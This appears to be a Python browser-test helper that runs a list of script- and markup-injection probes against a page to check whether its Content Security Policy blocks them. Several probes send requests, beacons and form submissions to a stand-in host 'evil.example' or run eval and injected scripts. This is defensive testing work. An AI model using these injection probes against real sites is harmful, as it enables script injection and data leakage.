"""Attacks by an injected script or injected markup on a page, to check whether its policy stops them."""

from __future__ import annotations

from typing import Any

from tests.browser.driver import Chromium

#: Each is the body of an asynchronous function that returns true if the attack succeeds. ``seen(what)`` tells whether
#: the browser fails to report a policy violation within a moment.
PROBES = {
    "script with a text": "const s = document.createElement('script'); s.text = 'window.evil = 1';"
    "document.body.append(s); return window.evil === 1",
    "script from elsewhere": "const s = document.createElement('script'); s.src = elsewhere + '/x.js';"
    "document.body.append(s); return seen('script-src-elem')",
    "script as data": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.evil=2';"
    "document.body.append(s); return seen('script-src-elem')",
    "script of another page of ours": "const s = document.createElement('script'); s.src = '/robots.txt';"
    "document.body.append(s); return seen('script-src-elem')",
    "module that is imported": "return import('data:text/javascript,export default 1').then(() => true)",
    "markup": "const d = document.createElement('div'); d.innerHTML = '<b>x</b>'; return d.childElementCount === 1",
    "markup beside": "const d = document.createElement('p'); document.body.append(d);"
    "d.insertAdjacentHTML('afterend', '<i>x</i>'); return d.nextElementSibling?.tagName === 'I'",
    "markup of a frame": "const f = document.createElement('iframe'); f.srcdoc = '<p>x</p>'; return Boolean(f.srcdoc)",
    "parsed markup": "return Boolean(new DOMParser().parseFromString('<p>x</p>', 'text/html').body)",
    "fragment": "return Boolean(document.createRange().createContextualFragment('<p>x</p>'))",
    "written document": "document.write('<p id=written>'); return Boolean(document.querySelector('#written'))",
    "eval": "return (0, eval)('1 + 1') === 2",
    "function from text": "return new Function('return 2')() === 2",
    "timer from text": "setTimeout('window.evilTimer = 1', 0); await wait(30); return window.evilTimer === 1",
    "handler": "const d = document.createElement('p'); d.setAttribute('onclick', 'window.evilHandler = 1');"
    "document.body.append(d); d.click(); return window.evilHandler === 1",
    "address of a script": "const a = document.createElement('a'); a.href = 'javascript:void(window.evilLink = 1)';"
    "document.body.append(a); a.click(); await wait(30); return window.evilLink === 1",
    "policy for types": "return Boolean(trustedTypes.createPolicy('x' + Math.random(), {createHTML: text => text}))",
    "usual policy for types": "return Boolean(trustedTypes.createPolicy('default', {createHTML: text => text}))",
    "style": "const s = document.createElement('style'); s.textContent = ':root { --evil: 1 }'; "
    "document.head.append(s); return getComputedStyle(document.documentElement).getPropertyValue('--evil') === '1'",
    "style of an element": "const d = document.createElement('p'); d.setAttribute('style', '--evil-own: 1');"
    "document.body.append(d); return getComputedStyle(d).getPropertyValue('--evil-own') === '1'",
    "stylesheet from elsewhere": "const l = document.createElement('link'); l.rel = 'stylesheet';"
    "l.href = elsewhere + '/x.css'; document.head.append(l); return seen('style-src-elem')",
    "picture from elsewhere": "new Image().src = elsewhere + '/x.png'; return seen('img-src')",
    "picture as data": "new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='; return seen('img-src')",
    "call to elsewhere": "fetch(elsewhere, {mode: 'no-cors'}).catch(() => 0); return seen('connect-src')",
    "beacon": "navigator.sendBeacon(elsewhere, 'x'); return seen('connect-src')",
    "frame": "const f = document.createElement('iframe'); f.src = '/robots.txt'; document.body.append(f);"
    "return seen('frame-src')",
    "object": "const o = document.createElement('object'); o.data = '/robots.txt'; document.body.append(o);"
    "return seen('object-src')",
    "sound": "new Audio('data:audio/wav,x').load(); return seen('media-src')",
    "font": "new FontFace('x', 'url(data:font/woff2,x)').load().catch(() => 0); return seen('font-src')",
    "worker": "try { new Worker('data:text/javascript,1') } catch { return false } return seen('worker-src')",
    "base address": "const b = document.createElement('base'); b.href = elsewhere; document.head.prepend(b);"
    "return document.baseURI.startsWith(elsewhere)",
    "form": "const f = document.createElement('form'); f.action = elsewhere; document.body.append(f);"
    "f.submit(); return seen('form-action')",
}
_RUN = """(async () => {
  const elsewhere = 'https://evil.example', told = [], through = [];
  const wait = time => new Promise(done => setTimeout(done, time));
  document.addEventListener('securitypolicyviolation', event => told.push(event.effectiveDirective));
  const seen = async what => {
    for (let turn = 0; turn < WAITS && !told.includes(what); turn++) await wait(5);
    return !told.includes(what);
  };
  for (const [name, probe] of Object.entries({PROBES})) {
    told.length = 0;
    try { if (await probe(elsewhere, seen, wait)) through.push(name) } catch {}
  }
  return through;
})()"""


def got_through(browser: Chromium, waits: int = 200) -> list[str]:
    """The names of the probes that succeed on the page. ``waits`` is the number of checks, 5 ms apart, for policy
    violations that the browser reports later."""
    browser.hold("https://evil.example")
    each = ", ".join(f"{name!r}: async (elsewhere, seen, wait) => {{ {body} }}" for name, body in PROBES.items())
    found: Any = browser.value(_RUN.replace("{PROBES}", f"{{{each}}}").replace("WAITS", str(waits)))
    return list(found)
